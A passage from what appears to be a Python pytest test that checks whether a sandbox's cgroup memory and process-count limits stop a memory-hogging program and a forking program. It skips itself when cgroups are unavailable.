        pytest.skip("no cgroups here: the rlimit held; memory and processes by cgroup untested")
    try:
        limits = Limits(memory=256 * 2**20, pids=100, cgroup=cg)
        out = run(hog, limits, cg.new(limits))
        assert "survived" not in out.stdout and out.returncode != 0, (out.stdout, out.stderr)
        out = run(forks, limits, cg.new(limits))
        assert out.stdout.startswith("forked") and int(out.stdout.split()[1]) < 100, out.stdout
    finally:
        cg.close()
